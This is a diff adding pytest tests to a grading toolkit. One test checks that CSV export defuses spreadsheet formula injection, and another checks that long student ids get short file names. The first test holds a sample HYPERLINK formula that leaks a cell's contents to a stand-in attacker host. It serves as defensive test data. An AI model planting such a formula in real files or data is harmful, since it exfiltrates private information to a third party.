@@ -42,3 +42,25 @@ def test_grades_csv_has_one_column_per_test_cell_in_the_order_given(tmp_path):
                     ["a", "graded", "3", "10", "", "3", "2", "1"],
                     ["b", "crashed", "0", "10", "", "0", "0", ""]]
     assert (tmp_path / "one.csv").read_bytes() == (tmp_path / "two.csv").read_bytes()  # stable
+
+
+def test_grades_csv_cells_never_start_like_a_formula_and_scores_stay_numbers(tmp_path):
+    # a roster id is written as the roster has it; ids from file names never start so
+    evil = '=HYPERLINK("http://attacker.invalid/?leak="&A3,"x")'
+    recs = {evil: Record(evil, "missing", {"q1_a": None}, {"q1_a": 5.0}),
+            "@SUM(1)": Record("@SUM(1)", "graded", {"q1_a": 4.5}, {"q1_a": 5.0}),
+            "李雷": Record("李雷", "graded", {"q1_a": 5.0}, {"q1_a": 5.0})}
+    write_grades_csv(recs, {"q1": ["q1_a"]}, {"q1": 5}, tmp_path / "g.csv", ["q1_a"])
+    rows = list(csv.reader(open(tmp_path / "g.csv", encoding="utf-8")))
+    assert rows[1:] == [["'" + evil, "missing", "0", "5", "", ""],
+                        ["'@SUM(1)", "graded", "4.5", "5", "4.5", "4.5"],
+                        ["李雷", "graded", "5", "5", "5", "5"]]
+
+
+def test_a_long_id_keeps_its_name_in_the_record_and_gets_a_short_file_name(tmp_path):
+    from labkit.grading.names import safe_name
+
+    long_id = "é" * 200
+    path = write_record(Record(long_id, "graded"), tmp_path)
+    assert path.name == safe_name(long_id) + ".json" and len(path.name.encode()) < 100
+    assert read_records(tmp_path)[long_id].student == long_id
